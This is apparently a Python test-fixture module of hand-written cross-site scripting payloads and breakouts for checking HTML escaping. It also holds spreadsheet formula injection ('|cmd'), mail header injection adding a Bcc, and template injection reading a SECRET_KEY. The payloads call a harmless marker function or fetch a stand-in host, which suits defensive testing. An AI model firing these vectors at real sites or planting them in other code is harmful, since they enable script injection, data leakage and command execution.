"""Texts that would run as script wherever somebody forgot to escape one.

Each calls `pwned(…)`, which only a browser of the tests knows, or asks for `/pwned`. Written by hand, by place
where a text may land; nothing here is taken from a list of others.
"""

CALL = "pwned(1)"
ELEMENTS = """
<script>CALL</script>
<SCRIPT>CALL</SCRIPT>
<scr<script>ipt>CALL</scr</script>ipt>
<script src=/pwned></script>
<script src=//overbrug.test/pwned></script>
<script src="data:text/javascript,CALL"></script>
<script type=module>CALL</script>
<script type=importmap>{"imports":{"x":"/pwned"}}</script>
<script x>CALL</script x>
<script/>CALL</script>
<img src=x onerror=CALL>
<IMG SRC=x OnErRoR=CALL>
<img/src=x/onerror=CALL>
<img src=x onerror="CALL"//
<img src=/pwned>
<img srcset="/pwned 1x">
<image src=x onerror=CALL>
<picture><source srcset=/pwned><img src=x onerror=CALL></picture>
<svg onload=CALL>
<svg/onload=CALL>
<svg><script>CALL</script></svg>
<svg><script href="data:text/javascript,CALL"/></svg>
<svg><animate onbegin=CALL attributeName=x dur=1s>
<svg><set onbegin=CALL attributeName=x dur=1s>
<svg><image href=/pwned onerror=CALL>
<svg><a xlink:href="javascript:CALL"><text x=9 y=9>x</text></a></svg>
<svg><use href="/pwned#x"></use></svg>
<svg><foreignObject><img src=x onerror=CALL></foreignObject></svg>
<svg><style><img src=x onerror=CALL></style></svg>
<svg><title><img src=x onerror=CALL></title></svg>
<math><mtext><img src=x onerror=CALL></mtext></math>
<math href="javascript:CALL">x</math>
<math><mi xlink:href="javascript:CALL">x</mi></math>
<iframe srcdoc="<script>parent.CALL</script>"></iframe>
<iframe src="javascript:parent.CALL"></iframe>
<iframe src=/pwned></iframe>
<iframe onload=CALL>
<object data=/pwned></object>
<object data="javascript:CALL"></object>
<embed src=/pwned>
<video src=x onerror=CALL></video>
<video><source onerror=CALL></video>
<video poster=/pwned></video>
<audio src=x onerror=CALL>
<input autofocus onfocus=CALL>
<select autofocus onfocus=CALL></select>
<textarea autofocus onfocus=CALL></textarea>
<button autofocus onfocus=CALL>x</button>
<a autofocus tabindex=0 onfocus=CALL>x</a>
<details open ontoggle=CALL>x</details>
<marquee onstart=CALL>x</marquee>
<body onload=CALL>
<body onpageshow=CALL>
<html onclick=CALL>
<style>@import "/pwned";</style>
<style>*{background:url(/pwned)}</style>
<link rel=stylesheet href=/pwned>
<link rel=prefetch href=/pwned>
<link rel=icon href=/pwned>
<meta http-equiv=refresh content="0;url=/pwned">
<meta http-equiv=refresh content="0;url=javascript:CALL">
<base href="//overbrug.test/pwned/">
<form action="javascript:CALL"><button autofocus>x</button></form>
<form action=/pwned><input type=submit></form>
<button formaction="javascript:CALL">x</button>
<isindex action="javascript:CALL">
<dialog open onclose=CALL><form method=dialog><button>x</button></form></dialog>
<template><script>CALL</script></template>
<template shadowrootmode=open><img src=x onerror=CALL></template>
<noscript><p title="</noscript><img src=x onerror=CALL>"></noscript>
<xss onanimationstart=CALL style="animation:x">x</xss>
<xss contenteditable autofocus onfocus=CALL>x</xss>
<p style="background:url(/pwned)">x</p>
<table background=/pwned><tr><td>x</table>
<div popover id=x onbeforetoggle=CALL></div><button popovertarget=x>x</button>
<a href="javascript:CALL">x</a>
<a href=" javascript:CALL">x</a>
<a href="java&#9;script:CALL">x</a>
<a href="java&Tab;script:CALL">x</a>
<a href="&#106;avascript:CALL">x</a>
<a href="data:text/html,<script>CALL</script>">x</a>
<a href="vbscript:CALL">x</a>
<a ping=/pwned href=/>x</a>
<c-icon name="x" onload="CALL" />
"""
# Out of the place where a text stands: an attribute, a comment, a text box, a script, a style, a query.
BREAKOUTS = r"""
"><script>CALL</script>
'><script>CALL</script>
"><img src=x onerror=CALL>
'><img src=x onerror=CALL>
" onfocus=CALL autofocus x="
' onfocus=CALL autofocus x='
" onmouseover="CALL
' onmouseover='CALL
x onfocus=CALL autofocus
` onfocus=CALL autofocus x=`
"/onerror=CALL//
" style="background:url(/pwned)" x="
" srcdoc="<script>parent.CALL</script>
" formaction="javascript:CALL
--><img src=x onerror=CALL><!--
--!><img src=x onerror=CALL>
]]><img src=x onerror=CALL>
?><img src=x onerror=CALL>
</textarea><img src=x onerror=CALL>
</title><img src=x onerror=CALL>
</style><img src=x onerror=CALL>
</script><script>CALL</script>
</option></select><img src=x onerror=CALL>
</noscript><img src=x onerror=CALL>
</xmp><img src=x onerror=CALL>
</svg><img src=x onerror=CALL>
</template><img src=x onerror=CALL>
";CALL;//
';CALL;//
`;CALL;//
\";CALL;//
\';CALL;//
${CALL}
*/CALL/*
javascript:CALL
JaVaScRiPt:CALL
javascript://%0aCALL
data:text/html,<script>CALL</script>
//overbrug.test/pwned
/\overbrug.test/pwned
{{ CALL }}
{% debug %}{{ settings.SECRET_KEY }}
{{constructor.constructor('CALL')()}}
%3Cscript%3ECALL%3C/script%3E
&lt;img src=x onerror=CALL&gt;
&#60;img src=x onerror=CALL&#62;
\u003cimg src=x onerror=CALL\u003e
\x3cimg src=x onerror=CALL\x3e
＜script＞CALL＜/script＞
![x](javascript:CALL)
[x](javascript:CALL)
<javascript:CALL>
[x]: javascript:CALL
@import '/pwned';
expression(CALL)
"""
# What looks like nothing, in the middle of a tag: no line of a list can hold these.
ODD = [
    "<\x00script>CALL</script>",
    "<img\x0csrc=x\x0conerror=CALL>",
    "<img\tsrc=x\tonerror=CALL>",
    "<img\nsrc=x\nonerror=CALL>",
    "<a href='\x01javascript:CALL'>x</a>",
    "<a href='java\nscript:CALL'>x</a>",
    "\u2028<img src=x onerror=CALL>\u2029",
    "\ufeff<script>CALL</script>",
    "\u202e<img src=x onerror=CALL>\u202c",
    "\u212a<\u017fcript>CALL</\u017fcript>",
    "+ADw-script+AD4-CALL+ADw-/script+AD4-",
]
PAYLOADS = [
    line.replace("CALL", CALL)
    for line in [*ELEMENTS.strip().split("\n"), *BREAKOUTS.strip().split("\n"), *ODD]
]
# What a spreadsheet would take for a formula, also behind blanks and quotes and in wide letters.
FORMULAS = [
    f"{before}{sign}1+1|cmd"
    for sign in ("=", "+", "-", "@", "\t=", "\r=", "\n=", "＝", "＋", "－", "＠")
    for before in ("", " ", '"', "'", "\u00a0", "\ufeff", "\u200b")
]
# What would begin a new header of a mail or a new property of a calendar.
NEW_LINES = [
    f"a{end}Bcc: pwned@overwater.example{end}X-Pwned: 1"
    for end in ("\n", "\r", "\r\n", "\u2028", "\u0085", "%0a", "\\n", "\v", "\f")
]


def mixed(rng, count):
    """Payloads made anew from two others: cut somewhere, joined, doubled, in other cases."""
    for _ in range(count):
        one, other = rng.sample(PAYLOADS, 2)
        made = one[: rng.randrange(len(one))] + other[rng.randrange(len(other)) :] + " " + other
        yield made.swapcase() if rng.random() < 0.1 else made
